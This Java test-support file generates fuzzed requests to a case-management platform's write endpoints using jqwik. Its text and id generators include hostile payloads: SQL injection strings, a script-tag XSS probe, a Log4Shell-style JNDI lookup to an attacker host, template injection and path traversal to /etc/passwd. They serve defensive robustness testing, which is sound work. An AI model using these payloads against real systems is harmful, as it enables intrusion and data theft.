package org.partnershippathways.platform;

import com.fasterxml.jackson.core.io.JsonStringEncoder;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generated requests to our write endpoints, as careless and hostile clients send them: bodies close to valid with
 * fields of the wrong type, missing or given twice, text in every script with control characters and injection
 * attempts, broken and huge JSON, wrong content types, strangers and wrong passwords.
 */
final class FuzzedRequests {

  /** Who sends: one of the users the fuzzer made, nobody, or a wrong password. */
  enum Sender { COORDINATOR, PRACTITIONER, PARTNER_SYSTEM, ANONYMOUS, WRONG_PASSWORD }

  /** Real ids the paths name most of the time, so that requests reach the checks behind the path. */
  record Ids(String caseId, String actionId, String meetingId) {

    String into(String path) {
      return path.replace("{caseId}", caseId).replace("{actionId}", actionId).replace("{meetingId}", meetingId);
    }
  }

  /** One generated request. */
  record Fuzzed(String endpoint, String path, Sender sender, String contentType, byte[] body, boolean chunked,
      Map<String, String> headers) {

    @Override
    public String toString() {
      String text = new String(body, StandardCharsets.UTF_8);
      return endpoint + " as " + sender + " to " + shortened(path) + ", Content-Type " + contentType
          + (chunked ? ", chunked" : "") + ", " + body.length + " bytes: " + shortened(text) + " " + headers;
    }

    private static String shortened(String text) {
      return text.length() > 300 ? text.substring(0, 300) + "... (" + text.length() + " characters)" : text;
    }
  }

  /**
   * A write endpoint of ours: its mapping ("POST /api/..."), its paths (with a real id's placeholder, see
   * {@link Ids}, or another id), and its body's fields.
   */
  record Endpoint(String mapping, Arbitrary<String> path, Map<String, Field> fields,
      Map<String, String> headers) {
  }

  /** A field's values: valid ones, and the fuzzer's mix of valid, wrongly typed, null and hostile ones. */
  record Field(Arbitrary<String> valid, Arbitrary<String> fuzzed) {
  }

  /** No such header at all. */
  static final String NONE = "(none)";
  static final String TOO_LONG_FOR_ANY_FIELD = "x".repeat(4_100);
  private static final JsonStringEncoder ENCODER = JsonStringEncoder.getInstance();

  private FuzzedRequests() {
  }

  static List<Endpoint> endpoints(LocalDate today) {
    return List.of(
        new Endpoint("POST /api/concerns", Arbitraries.just("/api/concerns"), concernFields(),
            Map.of("Idempotency-Key", "")),
        new Endpoint("POST /api/actions/{actionId}/reassign",
            id("{actionId}").map(id -> "/api/actions/" + id + "/reassign"),
            fields("agency", agency(), "reason", text()), Map.of()),
        new Endpoint("POST /api/actions/{actionId}/due-date",
            id("{actionId}").map(id -> "/api/actions/" + id + "/due-date"),
            fields("dueDate", dueDate(today), "reason", text()), Map.of()),
        new Endpoint("POST /api/meetings/{meetingId}/held",
            id("{meetingId}").map(id -> "/api/meetings/" + id + "/held"), Map.of(), Map.of()),
        new Endpoint("POST /api/cases/{caseId}/partner-responses",
            id("{caseId}").map(id -> "/api/cases/" + id + "/partner-responses"),
            fields("agency", agency(), "summary", text(), "holdsInformation", bool(), "respondedBy", line(),
                "partnerReference", line()), Map.of()),
        new Endpoint("POST /api/subject-access-exports", Arbitraries.just("/api/subject-access-exports"),
            fields("requestReference", line(), "nhsNumber", nhsNumber(), "familyName", line(),
                "dateOfBirth", dateOfBirth()), Map.of()),
        new Endpoint("POST /api/cases/{caseId}/restriction",
            id("{caseId}").map(id -> "/api/cases/" + id + "/restriction"), fields("grounds", text()), Map.of()),
        new Endpoint("POST /api/cases/{caseId}/erasure",
            id("{caseId}").map(id -> "/api/cases/" + id + "/erasure"), fields("grounds", text()), Map.of()),
        new Endpoint("POST /api/cases/{caseId}/consent-withdrawal",
            id("{caseId}").map(id -> "/api/cases/" + id + "/consent-withdrawal"),
            fields("withdrawnBy", line(), "notes", text()), Map.of()),
        new Endpoint("POST /api/process-models/decision-impact",
            Arbitraries.of("/api/process-models/decision-impact", "/api/process-models/decision-impact?decisions=0",
                "/api/process-models/decision-impact?decisions=%C3%A9", "/api/process-models/decision-impact?decisions=3"),
            fields("decisionTable", text()), Map.of()),
        new Endpoint("POST /api/process-models/task-load-forecast",
            Arbitraries.of("/api/process-models/task-load-forecast", "/api/process-models/task-load-forecast?weeks=0",
                "/api/process-models/task-load-forecast?weeks=%C3%A9", "/api/process-models/task-load-forecast?weeks=4"),
            fields("processModel", text(), "forms", nested(fields("new-task.form", text()))), Map.of()),
        new Endpoint("POST /api/calendar/bank-holidays", Arbitraries.just("/api/calendar/bank-holidays"),
            fields("england-and-wales", nested(fields("division", line(), "events", bankHolidayEvents()))),
            Map.of()),
        new Endpoint("POST /api/pathway-changes/preview", Arbitraries.just("/api/pathway-changes/preview"),
            migrationFields(), Map.of()),
        new Endpoint("POST /api/pathway-changes/migrations", Arbitraries.just("/api/pathway-changes/migrations"),
            migrationFields(), Map.of()));
  }

  static Arbitrary<Fuzzed> requests(List<Endpoint> endpoints) {
    return Arbitraries.of(endpoints).flatMap(endpoint -> Combinators.combine(endpoint.path(),
        body(endpoint.fields()), contentType(), sender(), Arbitraries.integers().between(0, 9),
        idempotencyKey()).as((path, body, type, sender, chunked, key) -> new Fuzzed(endpoint.mapping(), path,
        sender, type, body.getBytes(StandardCharsets.UTF_8), chunked == 0,
        endpoint.headers().containsKey("Idempotency-Key") && !NONE.equals(key) ? Map.of("Idempotency-Key", key)
            : Map.of())));
  }

  // ---- bodies

  private static Arbitrary<String> body(Map<String, Field> fields) {
    Arbitrary<String> object = object(fields);
    return Arbitraries.frequencyOf(
        Tuple.of(10, object),
        Tuple.of(2, validObject(fields)),
        Tuple.of(2, allValidButOne(fields)),
        Tuple.of(1, Combinators.combine(object, Arbitraries.of(" {}", "x", "]", " garbage", ","))
            .as((json, garbage) -> json + garbage)),
        Tuple.of(1, Combinators.combine(object, Arbitraries.doubles().between(0, 1))
            .as((json, at) -> json.substring(0, (int) (json.length() * at)))),
        Tuple.of(1, Arbitraries.strings().all().ofMaxLength(200)),
        Tuple.of(1, Arbitraries.of("", " ", "null", "[]", "0", "\"text\"", "{}", "true", "{\"\": 1}",
            "\uFEFF{}", "{\"a\": 1e999999}", "{\"a\": " + "9".repeat(2000) + "}")),
        Tuple.of(1, Arbitraries.integers().between(500, 3000).map(depth -> "[".repeat(depth) + "]".repeat(depth))),
        Tuple.of(1, Arbitraries.integers().between(65, 200).map(kb -> "{\"description\": \"" + "y".repeat(kb * 1024)
            + "\"}")));
  }

  /** An object whose members are each present, left out or given twice, with now and then a key we do not know. */
  private static Arbitrary<String> object(Map<String, Field> fields) {
    List<Arbitrary<String>> members = new ArrayList<>();
    fields.forEach((name, field) -> members.add(member(name, field.fuzzed())));
    members.add(Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.just("")),
        Tuple.of(1, Combinators.combine(anyText(), anyValue()).as((name, value) -> quoted(name) + ": " + value))));
    return Combinators.combine(members).as(parts -> "{" + String.join(", ",
        parts.stream().filter(part -> !part.isEmpty()).toList()) + "}");
  }

  /** An object with every field valid: such requests reach the end of each endpoint's checks. */
  private static Arbitrary<String> validObject(Map<String, Field> fields) {
    List<Arbitrary<String>> members = new ArrayList<>();
    fields.forEach((name, field) -> members.add(field.valid().map(value -> quoted(name) + ": " + value)));
    return members.isEmpty() ? Arbitraries.just("{}")
        : Combinators.combine(members).as(parts -> "{" + String.join(", ", parts) + "}");
  }

  /** An object with every field valid but one, which is fuzzed (wrong, missing, twice, hostile). */
  private static Arbitrary<String> allValidButOne(Map<String, Field> fields) {
    if (fields.isEmpty()) {
      return object(fields);
    }
    List<String> names = List.copyOf(fields.keySet());
    return Arbitraries.integers().between(0, names.size() - 1).flatMap(fuzzedOne -> {
      List<Arbitrary<String>> members = new ArrayList<>();
      for (int i = 0; i < names.size(); i++) {
        String name = names.get(i);
        members.add(i == fuzzedOne ? member(name, fields.get(name).fuzzed())
            : fields.get(name).valid().map(value -> quoted(name) + ": " + value));
      }
      return Combinators.combine(members).as(parts -> "{" + String.join(", ",
          parts.stream().filter(part -> !part.isEmpty()).toList()) + "}");
    });
  }

  private static Arbitrary<String> member(String name, Arbitrary<String> value) {
    Arbitrary<String> once = value.map(v -> quoted(name) + ": " + v);
    return Arbitraries.frequencyOf(
        Tuple.of(12, once),
        Tuple.of(1, Arbitraries.just("")),
        Tuple.of(1, Combinators.combine(once, once).as((first, second) -> first + ", " + second)));
  }

  /** A field whose fuzzed value is usually one of its kind, sometimes of another type, null or hostile text. */
  private static Field valueOr(Arbitrary<String> valid, Arbitrary<String> ofItsKind) {
    return new Field(valid, Arbitraries.frequencyOf(Tuple.of(10, ofItsKind), Tuple.of(2, wrongType()),
        Tuple.of(1, anyText()), Tuple.of(1, Arbitraries.just("null"))));
  }

  private static Field valueOr(Arbitrary<String> ofItsKind) {
    return valueOr(ofItsKind, ofItsKind);
  }

  /** A nested object's field: valid with valid members, or fuzzed with fuzzed members. */
  private static Field nested(Map<String, Field> fields) {
    return valueOr(validObject(fields), object(fields));
  }

  private static Arbitrary<String> wrongType() {
    return Arbitraries.of("0", "-1", "1", "1.5", "1e400", "-0", "true", "false", "[]", "{}", "[1, 2]",
        "{\"a\": 1}", "\"\"", "\"true\"", "\"0\"", "99999999999999999999999999", "[\"HOUSING\"]", "[null]");
  }

  private static Arbitrary<String> anyValue() {
    return Arbitraries.oneOf(wrongType(), anyText());
  }

  // ---- text

  /** Text of every kind, as a JSON string literal. */
  private static Arbitrary<String> anyText() {
    return Arbitraries.frequencyOf(
        Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40).map(FuzzedRequests::quoted)),
        Tuple.of(3, Arbitraries.of("' OR '1'='1", "'; DROP TABLE pathway_case; --", "Robert'); DROP TABLE x;--",
            "<script>alert(1)</script>", "${jndi:ldap://attacker/a}", "#{7*7}", "{{7*7}}", "../../etc/passwd",
            "%00", "%s%n%x", "${caseId}", "\\", "\"", "\u202Eevil", "\u200B", "\u200B\u200C\u200D\uFEFF",
            "\u3164", " ", "\t", "\n", "\u0000", "\u0007\u001B[31m", "𝕏𝕐", "🙂👍🏽", "Zoë Nguyễn-O'Brien", "محمد",
            "李小龙", "Ωμέγα", "\u0301\u0301", "null", "true", "1", "PP-2026-000001").map(FuzzedRequests::quoted)),
        Tuple.of(1, Arbitraries.of("\"\\ud800\"", "\"a\\udc00b\"", "\"\\u0000\"", "\"\\ud83d\"")),
        Tuple.of(1, Arbitraries.integers().between(0, 9000).map(n -> quoted("z".repeat(n)))),
        Tuple.of(1, Arbitraries.just(quoted(TOO_LONG_FOR_ANY_FIELD))));
  }

  private static Field line() {
    return valueOr(Arbitraries.of("PC Jones", "Alex", "Tester", "REF-1", "01234 567890", "Zoë")
        .map(FuzzedRequests::quoted));
  }

  private static Field text() {
    return valueOr(Arbitraries.of("Seen at night", "1 High Street\nFlat 2", "Known to us since 2019")
        .map(FuzzedRequests::quoted));
  }

  /** A far-off day only: a valid list must not move the due dates of the other tests' cases. */
  private static Field bankHolidayEvents() {
    return valueOr(Arbitraries.just("[{\"title\": \"Fuzz day\", \"date\": \"2035-12-27\", \"bunting\": true}]"),
        Arbitraries.of("[]", "[{}]", "[1]", "[{\"title\": \"\", \"date\": \"2035-13-40\"}]",
            "[{\"title\": \"X\", \"date\": \"1900-01-01\"}]", "[{\"title\": null, \"date\": null}]"));
  }

  private static Field bool() {
    return valueOr(Arbitraries.of("true", "false"));
  }

  private static Field agency() {
    return valueOr(Arbitraries.of("police", "health", "social-care", "voluntary").map(FuzzedRequests::quoted),
        Arbitraries.of("police", "health", "social-care", "voluntary", "POLICE", "nobody", "")
            .map(FuzzedRequests::quoted));
  }

  private static Field dueDate(LocalDate today) {
    return valueOr(Arbitraries.of(today.plusDays(10).toString(), today.plusDays(30).toString())
            .map(FuzzedRequests::quoted),
        Arbitraries.of(today.plusDays(10).toString(), today.plusDays(30).toString(), "2020-01-01", "2026-13-45",
            "31/12/2026", "tomorrow").map(FuzzedRequests::quoted));
  }

  private static Field dateOfBirth() {
    return valueOr(Arbitraries.of("2011-04-23", "1980-01-31").map(FuzzedRequests::quoted),
        Arbitraries.of("2011-04-23", "1980-01-31", "2999-01-01", "23/04/2011", "2011-02-30", "1800-01-01")
            .map(FuzzedRequests::quoted));
  }

  private static Field nhsNumber() {
    return valueOr(Arbitraries.of("9434765919", "943 476 5919").map(FuzzedRequests::quoted),
        Arbitraries.of("9434765919", "943 476 5919", "9434765918", "", "  ", "12345").map(FuzzedRequests::quoted));
  }

  private static Map<String, Field> migrationFields() {
    Field version = valueOr(Arbitraries.of("1", "2"), Arbitraries.of("1", "2", "0", "-3", "2147483648", "\"2\""));
    return fields("process", valueOr(Arbitraries.of("early-intervention-pathway", "consent-check", "nothing")
            .map(FuzzedRequests::quoted)), "fromVersion", version, "toVersion", version,
        "mappings", valueOr(Arbitraries.just("[{\"from\": \"Task_ConfirmTriage\", \"to\": \"Task_ConfirmTriage\"}]"),
            Arbitraries.of("[]", "[{}]", "[1]", "[null]", "[{\"from\": null, \"to\": \"\"}]")),
        "reason", text());
  }

  private static Map<String, Field> concernFields() {
    Map<String, Field> fields = new LinkedHashMap<>();
    fields.put("referrer", nested(fields("name", line(), "agency", agency(), "contact", line())));
    fields.put("person", nested(fields("givenName", line(), "familyName", line(),
        "dateOfBirth", dateOfBirth(), "nhsNumber", nhsNumber(),
        "address", text(), "child", bool())));
    fields.put("concernCategories", valueOr(
        Arbitraries.of("HOUSING", "EXPLOITATION", "MISSING_EPISODES").map(FuzzedRequests::quoted).list()
            .ofMinSize(1).ofMaxSize(3).map(items -> "[" + String.join(", ", items) + "]"),
        Arbitraries.of("HOUSING", "EXPLOITATION", "MISSING_EPISODES", "GOSSIP", "housing", " HOUSING ")
            .map(FuzzedRequests::quoted).list().ofMaxSize(5).map(items -> "[" + String.join(", ", items) + "]")));
    fields.put("description", text());
    fields.put("immediateRisk", bool());
    fields.put("consentObtained", bool());
    return fields;
  }

  private static Map<String, Field> fields(Object... namesAndFields) {
    Map<String, Field> fields = new LinkedHashMap<>();
    for (int i = 0; i < namesAndFields.length; i += 2) {
      fields.put((String) namesAndFields[i], (Field) namesAndFields[i + 1]);
    }
    return fields;
  }

  // ---- paths, headers, content types

  private static Arbitrary<String> id(String real) {
    return Arbitraries.frequencyOf(
        Tuple.of(8, Arbitraries.just(real)),
        Tuple.of(1, Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(40)),
        Tuple.of(1, Arbitraries.of("' OR '1'='1", "..", "%", "a b", "🙂", "x".repeat(300), "\u0000", "null")
            .map(FuzzedRequests::encoded)));
  }

  private static Arbitrary<Sender> sender() {
    return Arbitraries.frequency(Tuple.of(6, Sender.COORDINATOR), Tuple.of(2, Sender.PARTNER_SYSTEM),
        Tuple.of(1, Sender.PRACTITIONER), Tuple.of(1, Sender.ANONYMOUS), Tuple.of(1, Sender.WRONG_PASSWORD));
  }

  private static Arbitrary<String> idempotencyKey() {
    return Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.just(NONE)),
        Tuple.of(4, Arbitraries.create(() -> java.util.UUID.randomUUID().toString())),
        Tuple.of(1, Arbitraries.of("", " ", "k".repeat(300), "' OR 1=1 --")));
  }

  private static Arbitrary<String> contentType() {
    return Arbitraries.frequencyOf(
        Tuple.of(20, Arbitraries.just("application/json")),
        Tuple.of(1, Arbitraries.just(NONE)),
        Tuple.of(1, Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz", "application/json; charset=UTF-16", "application/json;charset=nope",
            "application/problem+json", "*/*", "application/*", "json please", "application/octet-stream", "text/html; charset=utf-8")));
  }

  static String quoted(String text) {
    return "\"" + new String(ENCODER.quoteAsString(text)) + "\"";
  }

  private static String encoded(String segment) {
    return URLEncoder.encode(segment, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
